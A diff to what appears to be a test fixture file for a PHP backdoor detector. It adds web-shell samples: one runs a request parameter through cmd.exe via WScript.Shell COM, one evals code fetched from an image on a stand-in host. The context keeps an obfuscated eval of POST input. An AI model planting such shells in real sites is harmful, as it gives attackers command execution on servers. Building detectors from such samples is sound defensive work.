@@ -127,6 +127,14 @@ const backdoors: [string, string][] = [
     `<?php\n$___ = urldecode($_ = '%70%72%65%67%5F%72' . $__ = '%65%70%6C%61%63%65');\n$___("::\\x65", "\\x65\\x76\\x61\\x6C\\x28\\x24\\x5F\\x50\\x4F\\x53\\x54\\x5B\\x31\\x5D\\x29", '');\n`,
   ],
   [
+    "a command line run through Windows' shell object",
+    `<?php\n$w = new COM('WScript.Shell');\n$e = $w->exec('cmd.exe /c ' . $_GET['c']);\necho $e->StdOut->ReadAll();\n`,
+  ],
+  [
+    'code cut from the tail of an image on another host',
+    `<?php\neval(trim(substr(file_get_contents('http://example.invalid/k.gif'), 293930)));\n`,
+  ],
+  [
     "ob_start's callback built from the request in a loop",
     `<?php\n$id = $_GET['id'];\n$s = '';\nforeach (array($id) as $v) { $s .= $v; }\nob_start($s);\necho $_GET['c'];\nob_end_flush();\n`,
   ],
@@ -179,6 +187,10 @@ const vendor: [string, string][] = [
   [
     "an encoder's virtual machine keeping references to the superglobals in its registers",
     `<?php\nswitch ($op) {\n  case '_GET': $r[$sp] = &$_GET; break;\n  case '_POST': $r[$sp] = &$_POST; break;\n}\neval($r[$sp - 1]);\n`,
+  ],
+  [
+    'an Office document opened through COM',
+    `<?php\n$word = new COM('Word.Application');\n$word->Documents->Open($path);\n$word->run('Normal.Macro1');\n`,
   ],
   ['a table of numbers', `<?php\nreturn [${Array.from({ length: 80 }, (_, i) => i * 7).join(', ')}];\n`],
   [
